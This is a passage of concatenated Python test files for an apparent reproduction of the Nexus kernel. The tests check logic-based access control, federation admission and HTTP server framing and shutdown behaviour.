            storage.read(tokens["bob"], "alice", "wall.txt")


class TestPublicPolicy:
    def test_anyone_reads_public(self, world):
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "bio.txt", b"hi!", policy="public")
        for user in ("alice", "bob", "carol"):
            assert storage.read(tokens[user], "alice", "bio.txt") == b"hi!"


class TestPolicyMechanics:
    def test_unknown_policy_rejected(self, world):
        kernel, framework, storage, tokens = world
        with pytest.raises(AppError):
            storage.store(tokens["alice"], "x", b"d", policy="secret")

    def test_goal_formulas_match_paper(self, world):
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "diary.txt", b"x", policy="private")
        resource_id = storage.fs.resource_id("/fauxbook/alice/diary.txt")
        entry = kernel.default_guard.goals.get(resource_id, "read")
        assert entry.formula == parse(
            'name.webserver says user = "alice"')

    def test_request_context_scopes_user(self, world):
        kernel, framework, storage, tokens = world
        assert framework.current_request_user is None
        with framework.request_context(tokens["bob"]) as user:
            assert user == "bob"
            assert framework.current_request_user == "bob"
        assert framework.current_request_user is None

    def test_session_authority_prefers_request_context(self, world):
        kernel, framework, storage, tokens = world
        claim = parse('name.webserver says user = "alice"')
        # Outside a request: any live session satisfies it.
        assert framework.session_authority.decides(claim)
        # Inside bob's request: alice's claim no longer holds.
        with framework.request_context(tokens["bob"]):
            assert not framework.session_authority.decides(claim)

    def test_stolen_token_still_scopes_to_its_user(self, world):
        """A reader can only ever act as the user its token names."""
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "diary.txt", b"x", policy="private")
        # carol presenting her own token cannot read alice's diary even
        # while alice is simultaneously logged in.
        with pytest.raises(AccessDenied):
            storage.read(tokens["carol"], "alice", "diary.txt")
