"""Differential scenarios: three paths to a kernel, one answer.

Every scenario here runs over the in-process transport, the HTTP wire,
and the federated cross-kernel path (credentials minted on a second
kernel, exported as a signed bundle, admitted as a local principal) —
see ``tests/conftest.py`` for the harness.  Together the scenarios cover
**every** structured :class:`~repro.kernel.guard.Explanation` kind, each
asserted both through the kernel's own ``explain()`` and over the wire.
"""

import pytest

from repro.kernel.authority import StatementSetAuthority
from repro.kernel.kernel import NexusKernel
from repro.kernel.guard import EXPLANATION_KINDS
from repro.nal.parser import parse
from repro.nal.proof import Assume, AuthorityQuery, ProofBundle

from harness import run_differential


def _verdict(verdict) -> dict:
    """Wire verdict → capture document."""
    return {"allow": verdict.allow, "cacheable": verdict.cacheable,
            "reason": verdict.reason}


def _wire(response) -> dict:
    """Wire explain response → capture document."""
    return {"verdict": _verdict(response.verdict),
            "explanation": response.explanation.to_dict()}


def _kernel(decision) -> dict:
    """Kernel GuardDecision (fresh explain) → capture document."""
    return {"verdict": {"allow": decision.allow,
                        "cacheable": decision.cacheable,
                        "reason": decision.reason},
            "explanation": decision.explanation.to_dict()}


def _capture(identity, operation, resource_name, proof=None,
             wallet=False) -> dict:
    """One observation, all the ways: authorize + explain over the wire,
    explain through the kernel."""
    wire_proof = None
    if proof is not None:
        from repro.api import codec
        wire_proof = codec.encode_bundle(proof)
    return {
        "authorize": _verdict(identity.authorize(
            operation, resource_name, proof=wire_proof, wallet=wallet)),
        "explain": _wire(identity.explain(
            operation, resource_name, proof=wire_proof, wallet=wallet)),
        "kernel": _kernel(identity.kernel_explain(
            operation, resource_name, proof=proof, wallet=wallet)),
    }


def _assert_kind(document: dict, kind: str, allow: bool) -> None:
    """The captured document must report one explanation kind
    consistently — wire and kernel."""
    assert document["explain"]["explanation"]["kind"] == kind
    assert document["kernel"]["explanation"]["kind"] == kind
    assert document["authorize"]["allow"] is allow
    assert document["explain"]["verdict"]["allow"] is allow
    assert document["kernel"]["verdict"]["allow"] is allow


# --------------------------------------------------------------------------
# one scenario per explanation kind
# --------------------------------------------------------------------------

class TestExplanationKindsDifferential:
    def test_allowed(self):
        def scenario(world):
            alice = world.identity("alice", ["ok(box)"])
            admin = world.admin()
            box = admin.create_resource("/files/box", "file")
            admin.set_goal(box, "read", f"{alice.speaker} says ok(box)")
            return _capture(alice, "read", "/files/box", wallet=True)

        document = run_differential(scenario)
        _assert_kind(document, "allowed", True)
        assert document["kernel"]["explanation"]["goal"] is not None

    def test_no_proof(self):
        def scenario(world):
            alice = world.identity("alice", ["ok(box)"])
            admin = world.admin()
            box = admin.create_resource("/files/box", "file")
            admin.set_goal(box, "read",
                           f"{alice.speaker} says absent(box)")
            return _capture(alice, "read", "/files/box", wallet=True)

        document = run_differential(scenario)
        _assert_kind(document, "no-proof", False)

    def test_proof_rejected(self):
        def scenario(world):
            alice = world.identity("alice", ["ok(box)"])
            admin = world.admin()
            box = admin.create_resource("/files/box", "file")
            admin.set_goal(box, "read", "Ghost says ok(box)")
            wrong = parse("Ghost says other(box)")
            proof = ProofBundle(Assume(wrong), credentials=(wrong,))
            return _capture(alice, "read", "/files/box", proof=proof)

        document = run_differential(scenario)
        _assert_kind(document, "proof-rejected", False)

    def test_missing_credential(self):
        def scenario(world):
            alice = world.identity("alice", ["ok(box)"])
            admin = world.admin()
            box = admin.create_resource("/files/box", "file")
            admin.set_goal(box, "read", "Ghost says ok(box)")
            claimed = parse("Ghost says ok(box)")
            proof = ProofBundle(Assume(claimed), credentials=(claimed,))
            return _capture(alice, "read", "/files/box", proof=proof)

        document = run_differential(scenario)
        _assert_kind(document, "missing-credential", False)
        assert document["kernel"]["explanation"]["premise"] == \
            "Ghost says ok(box)"

    def test_default_policy(self):
        def scenario(world):
            alice = world.identity("alice", ["ok(box)"])
            admin = world.admin()
            admin.create_resource("/files/vault", "file")
            return _capture(alice, "read", "/files/vault")

        document = run_differential(scenario)
        _assert_kind(document, "default-policy", False)
        assert document["kernel"]["explanation"]["goal"] is None

    def test_authority_denied(self):
        def scenario(world):
            world.kernel.register_authority("oracle",
                                            StatementSetAuthority())
            alice = world.identity("alice", ["ok(box)"])
            admin = world.admin()
            box = admin.create_resource("/files/box", "file")
            admin.set_goal(box, "read", "oracle says fresh(box)")
            queried = parse("oracle says fresh(box)")
            proof = ProofBundle(AuthorityQuery(queried, "oracle"))
            return _capture(alice, "read", "/files/box", proof=proof)

        document = run_differential(scenario)
        _assert_kind(document, "authority-denied", False)
        assert document["kernel"]["explanation"]["authority"] == "oracle"

    def test_iam_deny(self):
        def scenario(world):
            alice = world.identity("alice", ["use_role(reader)"])
            admin = world.admin()
            admin.create_resource("/files/box", "file")
            world.install_iam(
                roles=[
                    {"name": "reader", "statements": [
                        {"sid": "r1", "effect": "Allow",
                         "actions": ["read"],
                         "resources": ["/files/*"]}]},
                    {"name": "lockdown", "statements": [
                        {"sid": "d1", "effect": "Deny", "actions": ["*"],
                         "resources": ["/files/box"]}]},
                ],
                # Allow goals name the *speaker* (whose labelstore holds
                # use_role); the deny table matches the acting *subject*.
                bindings=[(alice.speaker, "reader"),
                          (alice.subject, "lockdown")])
            return _capture(alice, "read", "/files/box", wallet=True)

        document = run_differential(scenario)
        _assert_kind(document, "iam-deny", False)
        assert document["kernel"]["explanation"]["premise"] == \
            "lockdown/d1"
        # Deny-table answers are observations, never cached verdicts.
        assert document["authorize"]["cacheable"] is False

    def test_every_kind_is_covered_here(self):
        """This class must keep one scenario per guard explanation kind:
        a new kind without a differential scenario is a test gap."""
        covered = {"allowed", "no-proof", "proof-rejected",
                   "missing-credential", "default-policy",
                   "authority-denied", "iam-deny"}
        assert covered == set(EXPLANATION_KINDS)


# --------------------------------------------------------------------------
# the policy control plane, differentially
# --------------------------------------------------------------------------

class TestPolicyPlaneDifferential:
    def test_policy_apply_and_structured_deny(self):
        from repro.policy import PolicyRule, PolicySet, Selector

        def scenario(world):
            alice = world.identity("alice", ["ok(box)"])
            admin = world.admin()
            admin.create_resource("/files/box", "file")
            admin.create_resource("/files/empty", "file")
            admin.put_policy(PolicySet(
                name="reading", rules=(PolicyRule(
                    Selector(prefix="/files/"), ("read",),
                    f"{alice.speaker} says ok({{basename}})"),)))
            plan = admin.plan_policy("reading")
            applied = admin.apply_policy("reading")
            allowed = _capture(alice, "read", "/files/box", wallet=True)
            denied = _capture(alice, "read", "/files/empty", wallet=True)
            return {
                # resource ids differ across worlds (the federated world
                # mints extra processes); capture the id-free plan view.
                "plan": [{"action": a.action, "resource": a.resource,
                          "operation": a.operation, "goal": a.goal}
                         for a in plan.actions],
                "applied": {"set": applied.set_count,
                            "cleared": applied.cleared,
                            "bumps": applied.epoch_bumps},
                "allowed": allowed, "denied": denied,
            }

        document = run_differential(scenario)
        assert document["applied"]["set"] == 2
        _assert_kind(document["allowed"], "allowed", True)
        _assert_kind(document["denied"], "no-proof", False)
        assert {a["resource"] for a in document["plan"]} == \
            {"/files/box", "/files/empty"}


# --------------------------------------------------------------------------
# federation denials, end to end on every transport that can express them
# --------------------------------------------------------------------------

class TestFederationDenials:
    def test_untrusted_peer_denied_with_stable_code(self, api_world):
        """A bundle from an unregistered platform is refused identically
        over both transports."""
        from repro.api import ApiError, NexusClient, NexusService
        from harness import REMOTE_SEED

        remote = NexusClient.over_http(
            NexusService(NexusKernel(key_seed=REMOTE_SEED)))
        issuer = remote.open_session("issuer")
        issuer.say("fact(1)")
        exported = issuer.export_credentials()
        admin = api_world.admin()
        with pytest.raises(ApiError) as excinfo:
            admin.admit_remote(exported.bundle)
        assert excinfo.value.code == "E_UNTRUSTED_PEER"

    def test_tampered_bundle_denied_with_stable_code(self, api_world):
        """Registering the peer does not save a tampered bundle: any
        altered certificate flips admission to E_BAD_CHAIN."""
        import json as json_module
        from repro.api import ApiError, NexusClient, NexusService
        from harness import PEER_ALIAS, REMOTE_SEED

        remote_service = NexusService(NexusKernel(key_seed=REMOTE_SEED))
        remote = NexusClient.over_http(remote_service)
        issuer = remote.open_session("issuer")
        issuer.say("fact(1)")
        exported = issuer.export_credentials()
        admin = api_world.admin()
        admin.add_peer(PEER_ALIAS, remote.info().platform["root_key"])
        tampered = json_module.loads(json_module.dumps(exported.bundle))
        tampered["chains"][0]["certs"][-1]["statement"] = \
            tampered["chains"][0]["certs"][-1]["statement"].replace(
                "fact(1)", "fact(2)")
        with pytest.raises(ApiError) as excinfo:
            admin.admit_remote(tampered)
        assert excinfo.value.code == "E_BAD_CHAIN"
        # The untampered original still admits fine afterwards.
        admission = admin.admit_remote(exported.bundle)
        assert admission.labels == 1
