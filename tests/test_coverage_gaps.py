"""Remaining unit coverage: prover limits, chains, VKEY corners,
scheduler management, cache stats, file-server semantics, NIC rights."""

import pytest

from repro.crypto import Certificate, CertificateChain, generate_keypair
from repro.errors import (
    AccessDenied,
    KernelError,
    ProofError,
    StorageError,
)
from repro.fs import FileServer
from repro.kernel import (
    CallableAuthority,
    ClockAuthority,
    DecisionCache,
    NexusKernel,
)
from repro.kernel.scheduler import ProportionalShareScheduler
from repro.nal import Implies, Name, Pred, Says, parse
from repro.nal.prover import MAX_SEARCH_DEPTH, Prover
from repro.net import NIC, PageTable
from repro.storage import VKeyManager


class TestProverLimits:
    def test_depth_limit_fails_gracefully(self):
        # A modus-ponens chain longer than the search depth: the prover
        # must give up with ProofError, not recurse forever.
        chain_length = MAX_SEARCH_DEPTH + 5
        atoms = [Pred(f"p{i}") for i in range(chain_length + 1)]
        credentials = [atoms[0]]
        credentials.extend(Implies(atoms[i], atoms[i + 1])
                           for i in range(chain_length))
        with pytest.raises(ProofError):
            Prover(credentials).prove(atoms[-1])

    def test_add_credential_dedupes(self):
        prover = Prover([parse("A says p")])
        prover.add_credential(parse("A says p"))
        assert len(prover.credentials) == 1
        prover.add_credential(parse("A says q"))
        assert len(prover.credentials) == 2

    def test_cyclic_delegations_terminate(self):
        credentials = [parse("A speaksfor B"), parse("B speaksfor A")]
        with pytest.raises(ProofError):
            Prover(credentials).prove(parse("C says p"))

    def test_authority_backed_disjunct(self):
        goal = parse("(A says p) or (A says q)")
        prover = Prover([], authorities={parse("A says q"): "oracle"})
        proof = prover.prove(goal)
        from repro.nal import check
        result = check(proof, goal)
        assert result.authority_queries == (("oracle", parse("A says q")),)


class TestCertificateChains:
    def test_three_link_chain(self):
        root = generate_keypair(512, seed=61)
        mid = generate_keypair(512, seed=62)
        leaf = generate_keypair(512, seed=63)
        c1 = Certificate.issue("TPM", "NK", "link1", root,
                               subject_key=mid.public)
        c2 = Certificate.issue("NK", "store", "link2", mid,
                               subject_key=leaf.public)
        c3 = Certificate.issue("store", "proc", "proc says S", leaf)
        chain = CertificateChain(root_key=root.public, certs=[c1, c2, c3])
        chain.verify()
        assert chain.speaker_path() == ["TPM", "NK", "store", "proc"]


class TestVKeyCorners:
    def test_manager_without_tpm_still_works(self):
        manager = VKeyManager()
        assert manager.root.key_type == "symmetric"

    def test_root_accessible_as_id_zero(self):
        manager = VKeyManager()
        assert manager.get(0) is manager.root

    def test_signing_key_wrapped_under_symmetric(self):
        manager = VKeyManager()
        wrapper = manager.create("symmetric")
        signer = manager.create("signing", seed=71)
        blob = manager.externalize(signer.vkey_id,
                                   wrap_with=wrapper.vkey_id)
        restored = manager.internalize(blob, wrap_with=wrapper.vkey_id)
        sig = restored.sign(b"msg")
        signer.public_key().verify(b"msg", sig)

    def test_ids_lists_live_keys(self):
        manager = VKeyManager()
        a = manager.create()
        b = manager.create()
        manager.destroy(a.vkey_id)
        assert manager.ids() == [b.vkey_id]


class TestSchedulerManagement:
    def test_set_tickets_changes_share(self):
        scheduler = ProportionalShareScheduler()
        scheduler.add_client("a", 100)
        scheduler.add_client("b", 100)
        scheduler.set_tickets("a", 300)
        scheduler.run(2000)
        assert scheduler.share_of("a") > 0.70

    def test_remove_client(self):
        scheduler = ProportionalShareScheduler()
        scheduler.add_client("a", 100)
        scheduler.remove_client("a")
        with pytest.raises(KernelError):
            scheduler.share_of("a")
        assert scheduler.tick() is None

    def test_duplicate_client_rejected(self):
        scheduler = ProportionalShareScheduler()
        scheduler.add_client("a", 1)
        with pytest.raises(KernelError):
            scheduler.add_client("a", 2)

    def test_nonpositive_tickets_rejected(self):
        scheduler = ProportionalShareScheduler()
        with pytest.raises(KernelError):
            scheduler.add_client("a", 0)
        scheduler.add_client("b", 1)
        with pytest.raises(KernelError):
            scheduler.set_tickets("b", -1)


class TestCacheStats:
    def test_hit_rate(self):
        cache = DecisionCache()
        cache.insert(1, "op", 1, True)
        cache.lookup(1, "op", 1)  # hit
        cache.lookup(2, "op", 1)  # miss
        assert cache.stats.hit_rate == 0.5

    def test_disabled_cache_records_nothing(self):
        cache = DecisionCache(enabled=False)
        cache.insert(1, "op", 1, True)
        assert cache.lookup(1, "op", 1) is None
        assert len(cache) == 0

    def test_invalid_subregion_counts(self):
        with pytest.raises(ValueError):
            DecisionCache(subregions=0)
        cache = DecisionCache()
        with pytest.raises(ValueError):
            cache.resize(0)


class TestFileServerSemantics:
    @pytest.fixture
    def world(self):
        kernel = NexusKernel()
        fs = FileServer(kernel)
        proc = kernel.create_process("app")
        return kernel, fs, proc

    def test_read_past_eof_returns_short(self, world):
        kernel, fs, proc = world
        fd = kernel.syscall(proc.pid, "open", "/f")
        kernel.syscall(proc.pid, "write", fd, b"abc")
        fd2 = kernel.syscall(proc.pid, "open", "/f")
        assert kernel.syscall(proc.pid, "read", fd2, 100) == b"abc"
        assert kernel.syscall(proc.pid, "read", fd2, 100) == b""

    def test_fds_are_per_open(self, world):
        kernel, fs, proc = world
        fd1 = kernel.syscall(proc.pid, "open", "/f")
        kernel.syscall(proc.pid, "write", fd1, b"abcdef")
        fd2 = kernel.syscall(proc.pid, "open", "/f")
        assert kernel.syscall(proc.pid, "read", fd2, 3) == b"abc"
        # fd1's offset is untouched by fd2's read.
        kernel.syscall(proc.pid, "write", fd1, b"XYZ")
        assert fs.raw_read("/f") == b"abcdefXYZ"

    def test_foreign_fd_rejected(self, world):
        kernel, fs, proc = world
        other = kernel.create_process("other")
        fd = kernel.syscall(proc.pid, "open", "/mine")
        with pytest.raises(KernelError):
            kernel.syscall(other.pid, "read", fd, 1)


class TestNICRights:
    def test_transmit_requires_dma_grant(self):
        pages = PageTable()
        nic = NIC(pages)
        page = pages.alloc("app")  # app access only, no DMA grant
        pages.write("app", page, b"data")
        with pytest.raises(AccessDenied):
            nic.transmit_page(page, 4)

    def test_revoke_removes_access(self):
        pages = PageTable()
        page = pages.alloc("app")
        pages.write("app", page, b"x")
        pages.revoke(page, "app")
        with pytest.raises(AccessDenied):
            pages.read("app", page, 1)

    def test_oversized_write_rejected(self):
        pages = PageTable(page_size=16)
        page = pages.alloc("app")
        with pytest.raises(KernelError):
            pages.write("app", page, b"z" * 17)


class TestAuthorityCorners:
    def test_clock_authority_declines_non_time(self):
        authority = ClockAuthority(lambda: 5)
        assert authority.decides(parse("NTP says p")) is None
        assert authority.decides(parse("Other says TimeNow < 9")) is None

    def test_callable_authority_none_is_denial(self):
        kernel = NexusKernel()
        kernel.register_authority("maybe", CallableAuthority(lambda f: None))
        assert not kernel.authorities.query("maybe", parse("p"))

    def test_crashing_authority_fails_closed(self):
        kernel = NexusKernel()

        def boom(formula):
            raise RuntimeError("authority crashed")
        kernel.register_authority("crashy", CallableAuthority(boom))
        assert not kernel.authorities.query("crashy", parse("p"))

    def test_unregister(self):
        kernel = NexusKernel()
        kernel.register_authority("temp", CallableAuthority(lambda f: True))
        assert kernel.authorities.query("temp", parse("p"))
        kernel.authorities.unregister("temp")
        assert not kernel.authorities.query("temp", parse("p"))


class TestErrorMetadata:
    def test_access_denied_carries_context(self):
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        stranger = kernel.create_process("stranger")
        resource = kernel.resources.create("/meta/obj", "file",
                                           owner.principal)
        with pytest.raises(AccessDenied) as excinfo:
            kernel.guarded_call(stranger.pid, "read", resource.resource_id,
                                lambda: None)
        error = excinfo.value
        assert error.subject == stranger.pid
        assert error.operation == "read"
        assert error.resource == resource.resource_id
        assert error.reason
