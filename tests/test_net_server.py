"""The serving runtime: Content-Length framing, socket server,
persistent connections.

The framing tests pin the satellite fix: bodies are exactly
``Content-Length`` bytes, truncated frames and trailing garbage are
loud errors, and :func:`~repro.net.http.split_frame` carves pipelined
messages off a buffer without swallowing the next request.  The server
tests drive real TCP connections end to end.
"""

import socket
import threading
import time

import pytest

from repro.api import NexusClient, NexusService
from repro.errors import AppError
from repro.net.http import (HTTPRequest, HTTPResponse, Router,
                            frame_length, parse_request, parse_response,
                            split_frame)
from repro.net.server import PersistentConnection, SocketServer, serve_api


class TestContentLengthFraming:
    def test_round_trip_preserves_body_exactly(self):
        request = HTTPRequest("POST", "/x", {"A": "b"}, b"hello world")
        parsed = parse_request(request.to_bytes())
        assert parsed.body == b"hello world"
        assert parsed.headers["Content-Length"] == "11"

    def test_trailing_garbage_is_rejected(self):
        raw = HTTPRequest("POST", "/x", {}, b"hello").to_bytes()
        with pytest.raises(AppError, match="trailing garbage"):
            parse_request(raw + b"EXTRA")

    def test_truncated_body_is_rejected(self):
        raw = HTTPRequest("POST", "/x", {}, b"hello-world").to_bytes()
        with pytest.raises(AppError, match="truncated"):
            parse_request(raw[:-4])

    def test_response_framing_symmetrical(self):
        raw = HTTPResponse(200, b"payload").to_bytes()
        assert parse_response(raw).body == b"payload"
        with pytest.raises(AppError, match="trailing garbage"):
            parse_response(raw + b"!")
        with pytest.raises(AppError, match="truncated"):
            parse_response(raw[:-1])

    def test_bad_content_length_is_loud(self):
        raw = b"POST /x HTTP/1.1\r\nContent-Length: nope\r\n\r\nbody"
        with pytest.raises(AppError, match="Content-Length"):
            parse_request(raw)
        raw = b"POST /x HTTP/1.1\r\nContent-Length: -4\r\n\r\nbody"
        with pytest.raises(AppError, match="negative"):
            parse_request(raw)

    def test_absent_content_length_keeps_legacy_behaviour(self):
        # Hand-built messages without the header still parse (the
        # remainder is the body) — only declared lengths are enforced.
        raw = b"POST /x HTTP/1.1\r\nX: y\r\n\r\nfreeform tail"
        assert parse_request(raw).body == b"freeform tail"


class TestSplitFrame:
    def test_incomplete_buffers_return_none(self):
        raw = HTTPRequest("POST", "/x", {}, b"hello").to_bytes()
        for cut in (0, 5, len(raw) - 1):
            assert split_frame(raw[:cut]) is None
            assert frame_length(raw[:cut]) is None
        assert frame_length(raw) == len(raw)

    def test_pipelined_messages_split_cleanly(self):
        first = HTTPRequest("POST", "/a", {}, b"one").to_bytes()
        second = HTTPRequest("POST", "/b", {}, b"two!").to_bytes()
        buffer = first + second
        message, rest = split_frame(buffer)
        assert message == first and rest == second
        message, rest = split_frame(rest)
        assert message == second and rest == b""
        # The old parser would have swallowed `second` into the body:
        assert parse_request(first).body == b"one"

    def test_oversized_frames_fail_loudly(self):
        from repro.net.http import MAX_BODY_BYTES, MAX_HEAD_BYTES
        with pytest.raises(AppError, match="head exceeds"):
            frame_length(b"POST /x HTTP/1.1\r\nX: "
                         + b"y" * (MAX_HEAD_BYTES + 1))
        huge = (f"POST /x HTTP/1.1\r\nContent-Length: "
                f"{MAX_BODY_BYTES + 1}\r\n\r\n").encode()
        with pytest.raises(AppError, match="frame bound"):
            frame_length(huge)

    def test_bodyless_get_frames_without_content_length(self):
        raw = HTTPRequest("GET", "/api/v1/", {}).to_bytes()
        assert frame_length(raw) == len(raw)
        message, rest = split_frame(raw + b"POST")
        assert message == raw and rest == b"POST"


def _echo_router():
    router = Router()

    def echo(request):
        return HTTPResponse(200, b"echo:" + request.body)

    router.add("POST", "/echo", echo, exact=True)
    return router


class TestSocketServer:
    def test_keep_alive_serves_many_requests_per_connection(self):
        with SocketServer(_echo_router(), workers=2) as server:
            host, port = server.address
            conn = PersistentConnection(host, port)
            for index in range(5):
                body = f"n{index}".encode()
                raw = HTTPRequest("POST", "/echo", {}, body).to_bytes()
                response = parse_response(conn.send(raw))
                assert response.body == b"echo:" + body
            conn.close()
            # A healthy keep-alive session is zero *re*connects: the
            # first connect is just a connect.  (The counter used to
            # charge it too, hiding real reconnect churn behind an
            # off-by-one.)
            assert conn.reconnects == 0
            assert server.requests_served == 5
            assert server.connections_accepted == 1

    def test_thread_per_request_closes_after_each_response(self):
        with SocketServer(_echo_router(), workers=2,
                          thread_per_request=True) as server:
            host, port = server.address
            conn = PersistentConnection(host, port)
            for index in range(3):
                raw = HTTPRequest("POST", "/echo", {},
                                  f"{index}".encode()).to_bytes()
                assert parse_response(conn.send(raw)).body.startswith(
                    b"echo:")
            conn.close()
            # Every request needed a fresh connection: two of the
            # three connects replaced a dead predecessor.
            assert conn.reconnects == 2
            assert server.connections_accepted == 3

    def test_pipelined_requests_on_one_socket(self):
        with SocketServer(_echo_router(), workers=1) as server:
            host, port = server.address
            first = HTTPRequest("POST", "/echo", {}, b"a").to_bytes()
            second = HTTPRequest("POST", "/echo", {}, b"bb").to_bytes()
            with socket.create_connection((host, port)) as sock:
                sock.sendall(first + second)  # both at once
                buffer = b""
                messages = []
                while len(messages) < 2:
                    framed = split_frame(buffer)
                    if framed is None:
                        chunk = sock.recv(65536)
                        assert chunk, "server closed early"
                        buffer += chunk
                        continue
                    message, buffer = framed
                    messages.append(parse_response(message))
            assert [m.body for m in messages] == [b"echo:a", b"echo:bb"]

    def test_broken_framing_gets_400_and_close(self):
        with SocketServer(_echo_router(), workers=1) as server:
            host, port = server.address
            raw = HTTPRequest("POST", "/echo", {}, b"xyz").to_bytes()
            # An unparseable Content-Length breaks the framing contract:
            # the stream can no longer be trusted to align on message
            # boundaries, so the server answers 400 and hangs up.
            broken = raw.replace(b"Content-Length: 3",
                                 b"Content-Length: zz")
            with socket.create_connection((host, port)) as sock:
                sock.sendall(broken)
                response = parse_response(sock.recv(65536))
                assert response.status == 400
                assert sock.recv(65536) == b""  # connection dropped

    def test_connection_close_header_is_honored(self):
        with SocketServer(_echo_router(), workers=1) as server:
            host, port = server.address
            raw = HTTPRequest("POST", "/echo",
                              {"Connection": "close"}, b"x").to_bytes()
            with socket.create_connection((host, port)) as sock:
                sock.sendall(raw)
                response = parse_response(sock.recv(65536))
                assert response.headers.get("Connection") == "close"
                assert sock.recv(65536) == b""

    def test_server_restarts_cleanly_after_stop(self):
        server = SocketServer(_echo_router(), workers=2)
        for _round in range(2):
            host, port = server.start()
            conn = PersistentConnection(host, port)
            raw = HTTPRequest("POST", "/echo", {}, b"hi").to_bytes()
            assert parse_response(conn.send(raw)).body == b"echo:hi"
            conn.close()
            server.stop()

    def test_stop_drains_pipelined_keep_alive_requests(self):
        # Regression: stop() during a pipelined burst used to abandon
        # buffered frames — the serve loop was gated on the stop flag
        # and the connection was closed outright, so requests the
        # server had *already received* never got their framed
        # responses.  The handler blocks on an event so the test can
        # guarantee stop() lands while two frames sit buffered behind
        # an in-flight request.
        release = threading.Event()
        started = threading.Event()
        router = Router()

        def slow(request):
            started.set()
            assert release.wait(5.0), "test never released the handler"
            return HTTPResponse(200, b"ok:" + request.body)

        router.add("POST", "/slow", slow, exact=True)
        server = SocketServer(router, workers=1)
        host, port = server.start()
        burst = b"".join(
            HTTPRequest("POST", "/slow", {}, f"r{i}".encode()).to_bytes()
            for i in range(3))
        with socket.create_connection((host, port)) as sock:
            sock.sendall(burst)
            assert started.wait(5.0)  # request 1 in flight, 2+3 queued
            stopper = threading.Thread(target=server.stop)
            stopper.start()
            release.set()
            buffer = b""
            bodies = []
            while len(bodies) < 3:
                framed = split_frame(buffer)
                if framed is None:
                    chunk = sock.recv(65536)
                    assert chunk, (f"server dropped responses after "
                                   f"{bodies}")
                    buffer += chunk
                    continue
                message, buffer = framed
                bodies.append(parse_response(message).body)
            stopper.join(timeout=5.0)
            assert not stopper.is_alive()
            assert bodies == [b"ok:r0", b"ok:r1", b"ok:r2"]
            assert sock.recv(65536) == b""  # clean EOF after the drain

    def test_stop_waits_for_slow_in_flight_request(self):
        # Regression: stop() used to join workers with a timeout and
        # then cold-close whatever connections remained — a request
        # that was merely *slow* (a long proof check) had its response
        # torn off the wire.  In thread-per-request mode the handler
        # threads weren't joined at all, so the cold-close landed
        # immediately.  The drain must outwait the handler, however
        # slow, and deliver the complete framed response.
        for thread_per_request in (False, True):
            release = threading.Event()
            started = threading.Event()
            router = Router()

            def slow(request, release=release, started=started):
                started.set()
                assert release.wait(5.0), "test never released the handler"
                return HTTPResponse(200, b"slow:" + request.body)

            router.add("POST", "/slow", slow, exact=True)
            server = SocketServer(router, workers=1,
                                  thread_per_request=thread_per_request)
            host, port = server.start()
            raw = HTTPRequest("POST", "/slow", {}, b"req").to_bytes()
            with socket.create_connection((host, port)) as sock:
                sock.sendall(raw)
                assert started.wait(5.0)  # request is in flight
                stopper = threading.Thread(target=server.stop)
                stopper.start()
                # Give stop() time to reach its joins while the
                # handler still holds the request open.
                stopper.join(timeout=0.3)
                assert stopper.is_alive()  # draining, not dropping
                release.set()
                buffer = b""
                while split_frame(buffer) is None:
                    chunk = sock.recv(65536)
                    assert chunk, "server tore the in-flight response"
                    buffer += chunk
                message, rest = split_frame(buffer)
                assert parse_response(message).body == b"slow:req"
                assert rest == b""
                stopper.join(timeout=5.0)
                assert not stopper.is_alive()
                assert sock.recv(65536) == b""  # clean EOF

    def test_persistent_connection_survives_server_side_drop(self):
        with SocketServer(_echo_router(), workers=2) as server:
            host, port = server.address
            conn = PersistentConnection(host, port)
            raw = HTTPRequest("POST", "/echo", {}, b"1").to_bytes()
            assert parse_response(conn.send(raw)).status == 200
            # Kill the server side of the connection behind its back
            # (shutdown, not close: the event loop still owns the fd
            # and will observe the EOF like any peer hang-up).
            with server._live_lock:
                for live in list(server._live_conns):
                    live.shutdown(socket.SHUT_RDWR)
            assert parse_response(conn.send(raw)).status == 200
            assert conn.reconnects == 1
            conn.close()

    def test_more_keep_alive_connections_than_workers(self):
        # The event-loop front end's reason to exist: the old pool
        # pinned one worker per connection for its whole lifetime, so
        # two workers could never serve eight concurrent keep-alive
        # clients — the extra six sat in the accept queue until someone
        # hung up.  With the loop owning idle sockets, worker count
        # bounds only in-flight *requests*.
        with SocketServer(_echo_router(), workers=2) as server:
            host, port = server.address
            conns = [PersistentConnection(host, port) for _ in range(8)]
            for round_no in range(3):
                for index, conn in enumerate(conns):
                    body = f"c{index}r{round_no}".encode()
                    raw = HTTPRequest("POST", "/echo", {}, body).to_bytes()
                    assert (parse_response(conn.send(raw)).body
                            == b"echo:" + body)
            for conn in conns:
                assert conn.reconnects == 0  # nobody got shed
                conn.close()
            assert server.connections_accepted == 8
            assert server.requests_served == 24

    def test_stop_drains_connection_queued_during_shutdown(self):
        # Regression (this PR's bugfix): the old worker pool's stop
        # path could orphan a connection that was accepted and queued
        # while stop() ran — the idle worker's queue-get timed out,
        # saw the stop flag, and exited, leaving the just-queued
        # connection to be cold-closed with a fully buffered request
        # unserved.  The gate below holds the old accept thread's
        # queue-put until stop() is past the worker joins, making the
        # race deterministic; on the event-loop server there is no
        # accept queue and the gate is a no-op, but the contract under
        # test is the same: a request the server *accepted* gets its
        # response before the drain finishes.
        server = SocketServer(_echo_router(), workers=1)
        host, port = server.start()
        gate = threading.Event()
        conn_queue = getattr(server, "_conn_queue", None)
        if conn_queue is not None:  # pre-fix architecture
            real_put = conn_queue.put

            def gated_put(item, *args, **kwargs):
                gate.wait(5.0)
                real_put(item, *args, **kwargs)

            conn_queue.put = gated_put
        raw = HTTPRequest("POST", "/echo", {}, b"late").to_bytes()
        try:
            with socket.create_connection((host, port)) as sock:
                sock.sendall(raw)
                deadline = time.monotonic() + 5.0
                while (server.connections_accepted < 1
                       and time.monotonic() < deadline):
                    time.sleep(0.005)
                assert server.connections_accepted >= 1
                stopper = threading.Thread(target=server.stop)
                stopper.start()
                # Outwait the pre-fix worker's 0.5s queue-get timeout:
                # the connection must land on the (pre-fix) queue only
                # after the idle worker has seen the stop flag and
                # exited, or a still-alive worker would claim it and
                # mask the orphan.
                time.sleep(1.2)
                gate.set()
                buffer = b""
                while split_frame(buffer) is None:
                    chunk = sock.recv(65536)
                    assert chunk, ("connection queued during shutdown "
